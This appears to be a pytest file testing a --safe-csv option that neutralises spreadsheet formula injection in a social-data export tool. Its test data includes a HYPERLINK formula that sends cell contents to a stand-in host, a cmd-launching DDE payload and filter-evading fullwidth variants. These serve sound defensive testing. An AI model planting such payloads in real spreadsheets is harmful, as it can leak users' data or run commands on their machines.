"""CSV that a spreadsheet may open: no cell of it is a formula, and without --safe-csv every cell is exact."""

import csv
import io
import json
import subprocess

import pytest
from commands import COMMAND, ENVIRONMENT, socialcrawl
from exported_towns import a_town, exported

from socialcrawl.errors import SettingsError
from socialcrawl.formats.csv_files import guard_formula

FORMULAS = [
    '=HYPERLINK("http://stranger.example/?x="&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "-",
    "--1",
    "+49 30 1234",
    "-3-",
    "1;=1+1",
]
SAFE = ["", "a = b", "'=1", "-3", "+3.5", "-.5e-7", "3", "(=1)", "é=1", "1;2"]
NUMBERS = [-3, -2.5, 0, None, 7]


def cells_of(text):
    """Rows as a spreadsheet takes them apart: a carriage return without quotes ends one, too."""
    return list(csv.reader(io.StringIO(text, newline="")))


def answered(*words):
    """What a command writes, to the byte."""
    child = subprocess.run([*COMMAND, *map(str, words)], env=ENVIRONMENT, capture_output=True, check=True)
    return child.stdout.decode()


def is_formula(cell):
    """The rule of OWASP's page on CSV injection, and that a plain number is none."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    return False


def test_texts_that_begin_like_formulas_get_an_apostrophe_and_nothing_else_changes():
    for text in FORMULAS[:-1]:
        assert guard_formula(text) == f"'{text}"
    for value in (*SAFE, *NUMBERS, True, ["=1"]):
        assert guard_formula(value) == value


@pytest.fixture(scope="module")
def town(tmp_path_factory):
    """An export of each kind of a town whose posts and names are formulas; its folder and the database's rows."""
    folder = tmp_path_factory.mktemp("formulas")
    with a_town(folder) as connection:
        with connection.begin():
            ids = [row[0] for row in connection.exec_driver_sql("select id from post order by id")]
            texts = dict(zip(ids, FORMULAS * len(ids), strict=False))
            for key, text in texts.items():
                connection.exec_driver_sql("update post set text = ? where id = ?", (text, key))
            connection.exec_driver_sql("update account set name = '=1+' || node, username = '@x' || node")
        sheets = {
            "safe": exported(connection, folder / "safe", "csv", "jsonl", safe_csv=True),
            "exact": exported(connection, folder / "exact", "csv"),
            "lines": exported(connection, folder / "lines", "jsonl"),
        }
    return folder, sheets, texts


def test_no_cell_of_a_safe_export_is_a_formula_and_all_texts_are_there(town):
    folder, _, texts = town
    files = sorted((folder / "safe").glob("*.csv"))
    assert len(files) > 4
    for file in files:
        assert not [cell for row in cells_of(file.read_bytes().decode()) for cell in row if is_formula(cell)]
    head, *rows = cells_of((folder / "safe" / "posts.csv").read_bytes().decode())
    shown = {row[head.index("id")]: row[head.index("text")] for row in rows}
    assert {key: text.removeprefix("'") for key, text in shown.items()} == texts


def test_an_export_is_exact_by_default_and_in_other_formats(town):
    folder, _, texts = town
    head, *rows = cells_of((folder / "exact" / "posts.csv").read_bytes().decode())
    assert {row[head.index("id")]: row[head.index("text")] for row in rows} == texts
    with (folder / "safe" / "posts.jsonl").open(encoding="utf-8") as file:
        assert {row["id"]: row["text"] for row in map(json.loads, file)} == texts


def test_the_datasheet_says_whether_csv_is_safe_to_open_in_a_spreadsheet(town):
    folder, sheets, _ = town
    assert [sheets[name].get("safe_csv") for name in ("safe", "exact", "lines")] == [True, False, None]
    told = {name: (folder / name / "datasheet.md").read_text("utf-8") for name in sheets}
    assert "begin with an apostrophe (`--safe-csv`)" in told["safe"]
    assert "export again with `--safe-csv`" in told["exact"]
    assert "safe-csv" not in told["lines"]


def test_an_answer_in_csv_is_safe_on_request_and_exact_otherwise(town):
    database = town[0] / "town.db"
    values = ", ".join("('" + text.replace("'", "''") + "', -3)" for text in FORMULAS)
    words = ("sql", "--db", database, "--format", "csv", f'select column1 as "=t", column2 as n from (values {values})')
    head, *rows = cells_of(answered(*words, "--safe-csv"))
    assert (head, {row[1] for row in rows}) == (["'=t", "n"], {"-3"})
    assert not [cell for row in rows for cell in row if is_formula(cell)]
    head, *rows = cells_of(answered(*words))
    assert (head, [row[0] for row in rows]) == (["=t", "n"], FORMULAS)


def test_the_option_needs_csv(town, tmp_path):
    database = town[0] / "town.db"
    assert "--safe-csv is for CSV" in socialcrawl("sql", "--db", database, "select 1", "--safe-csv").stderr
    child = socialcrawl("export", "--out", tmp_path / "out", "--db", database, "--safe-csv")
    assert (child.returncode, "add --format csv" in child.stderr) == (2, True)
    with a_town(tmp_path) as connection, pytest.raises(SettingsError, match="--safe-csv is for CSV"):
        exported(connection, tmp_path / "out", "parquet", safe_csv=True)
    child = socialcrawl("export", "--out", tmp_path / "out", "--db", database, "--format", "csv", "--safe-csv")
    assert child.returncode == 0
    assert (tmp_path / "out" / "posts.csv").read_text("utf-8").startswith("author,id")
